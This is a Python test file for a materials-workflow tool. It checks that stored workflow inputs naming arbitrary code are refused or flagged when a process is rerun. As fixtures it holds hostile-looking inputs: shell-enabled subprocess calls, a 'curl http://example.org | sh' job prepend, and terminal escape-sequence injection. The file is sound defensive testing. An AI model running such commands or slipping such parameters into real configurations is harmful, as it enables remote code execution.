"""S1: nothing that a node names is executed; what a rerun would execute is listed."""

import numpy as np
import pytest
from aiida import orm
from aiida.common.links import LinkType
from click.testing import CliRunner
from support import handmade
from support.commands import refused, run

from aiida_dismai.cli import main
from aiida_dismai.cli.archive.commands import check_archive, write_archive
from aiida_dismai.data import StructureSetData
from aiida_dismai.engine.structures import StructureSet, write_extxyz


@pytest.fixture(scope="module")
def graph(aiida_profile, tmp_path_factory):
    return handmade.fresh(aiida_profile, tmp_path_factory.mktemp("weights"))


@pytest.fixture(scope="module")
def archive(graph, tmp_path_factory):
    path = tmp_path_factory.mktemp("archive") / "pipeline.aiida"
    write_archive(graph.pipeline, path)
    return path


def silicon(n, seed):
    """Return the handmade structures with silicon on every site."""
    made = handmade.structures(n, seed)
    return StructureSet.from_uniform(np.full(6, 14), made.positions.reshape(n, 6, 3), made.cells[0])


S1 = {
    "a function": {"calculator": "subprocess:check_output", "calculator_kwargs": {"args": "touch x", "shell": True}},
    "a class of ASE": {"calculator": "ase.calculators.vasp:Vasp", "calculator_kwargs": {"command": "touch x"}},
    "not registered": {"calculator": "mace"},
    "escape sequences": {"calculator": "\x1b[2J\nfinished"},
    "a program of QUIP": {"calculator": "gap", "calculator_kwargs": {"param_filename": "x", "args_str": "FilePot"}},
    "Python in LAMMPS": {
        "calculator": "lammps",
        "calculator_kwargs": {"pair_style": "mliap unified x.pkl 0", "file": "x", "elements": ["Si"]},
    },
    "a list": {"calculator": ["edip"]},
    "unknown parameter": {"calculator": "edip", "command": "touch x"},
    "arguments of a list": {"calculator": "edip", "calculator_kwargs": ["x"]},
}


@pytest.mark.parametrize("parameters", S1.values(), ids=S1)
@pytest.mark.parametrize("command", ["evaluate", "benchmark"])
def test_s1_what_may_not_be_inherited_is_refused_naming_the_process(graph, tmp_path, parameters, command):
    before = orm.QueryBuilder().append(orm.ProcessNode).count()
    made = handmade.process(
        orm.WorkChainNode,
        handmade.WORKFLOWS + "dataset.amorphous",
        "AmorphousDatasetWorkChain",
        {"relax__job__parameters": orm.Dict(parameters)},
    )
    handmade.finish(made, {name: StructureSetData(silicon(2, 2)).store() for name in ("train", "validation")})
    write_extxyz(silicon(2, 6), tmp_path / "gen.extxyz")
    arguments = {
        "evaluate": ("evaluate", tmp_path / "gen.extxyz", "--dataset", made.pk, "--code", "dismai@localhost"),
        "benchmark": (
            *("launch", "benchmark", "--dataset", made.pk, "--model", "resample", "--seed", 3),
            *("--code", "dismai@localhost"),
        ),
    }[command]
    line = refused(*arguments)
    assert f"AmorphousDatasetWorkChain<{made.pk}>" in line
    assert "--overrides" in line
    assert line.strip().isprintable()
    assert orm.QueryBuilder().append(orm.ProcessNode).count() == before + 1


def test_s1_a_process_that_only_calls_itself_a_data_set_is_refused(graph, tmp_path):
    made = handmade.process(
        orm.WorkChainNode,
        handmade.WORKFLOWS + "dataset.amorphous",
        "AmorphousDatasetWorkChain",
        {"relax": orm.Str("edip")},
    )
    handmade.finish(made, {name: StructureSetData(silicon(2, 2)).store() for name in ("train", "validation")})
    write_extxyz(silicon(2, 6), tmp_path / "gen.extxyz")
    line = refused("evaluate", tmp_path / "gen.extxyz", "--dataset", made.pk, "--code", "dismai@localhost")
    assert "does not say what its structures were relaxed with" in line


def test_s1_a_dry_run_says_what_else_is_executed(graph, tmp_path):
    write_extxyz(silicon(2, 6), tmp_path / "train.extxyz")
    (tmp_path / "overrides.yaml").write_text("relax: {parameters: {calculator: 'ase.calculators.emt:EMT'}}\n")
    (tmp_path / "options.yaml").write_text("prepend_text: 'module load x'\n")
    result = run(
        *("launch", "evaluate", "--structures", tmp_path / "train.extxyz", "--reference", tmp_path / "train.extxyz"),
        *("--kind", "amorphous", "--code", "dismai@localhost", "--dry-run"),
        *("--overrides", tmp_path / "overrides.yaml", "--options", tmp_path / "options.yaml"),
    )
    assert result.exit_code == 0, result.output
    assert (
        "# executes the function 'ase.calculators.emt:EMT' of a Python module, where DISMAI_ALLOW_FACTORY"
        in result.output
    )
    assert "# executes text in the job's script: 'module load x'" in result.output


def test_s1_what_a_rerun_would_execute_is_listed(graph, tmp_path):
    inputs = {
        "relax__job__parameters": orm.Dict(
            {"calculator": "subprocess:check_output", "calculator_kwargs": {"args": "x"}}
        ),
        "quench__parameters": orm.Dict({"potential": "un\x1b[2Jknown"}),
        "other__parameters": orm.Dict({"calculator": "edip"}),
    }
    evil = handmade.process(orm.WorkChainNode, handmade.WORKFLOWS + "dataset.amorphous", "Amorphous", inputs)
    job = orm.CalcJobNode(process_type=handmade.CALCULATIONS + "relax")
    job.set_option("prepend_text", "curl http://example.org | sh")
    job.base.links.add_incoming(evil, LinkType.CALL_CALC, "job")
    job.store().seal()
    handmade.finish(evil, {"train": StructureSetData(handmade.structures(2, 5)).store()})
    write_archive(evil, tmp_path / "evil.aiida")
    found = {item["check"]: item for item in check_archive(tmp_path / "evil.aiida")}["what runs when it is run again"]
    assert found["warning"]
    assert "the function 'subprocess:check_output' of a Python module" in found["found"]
    assert r"a calculator 'un\x1b[2Jknown' that is not registered here" in found["found"]
    assert "text in the job's script: 'curl http://example.org | sh' (prepend_text)" in found["found"]
    assert "edip" not in found["found"]
    output = CliRunner().invoke(main, ["archive", "check", str(tmp_path / "evil.aiida")]).output
    assert "\x1b" not in output
    assert any(line.split()[:2] == ["!", "what"] for line in output.splitlines())


def test_s1_registered_names_are_no_warning(archive):
    found = {item["check"]: item for item in check_archive(archive)}["what runs when it is run again"]
    assert (found["passed"], found["warning"], found["found"]) == (True, False, "registered names only")
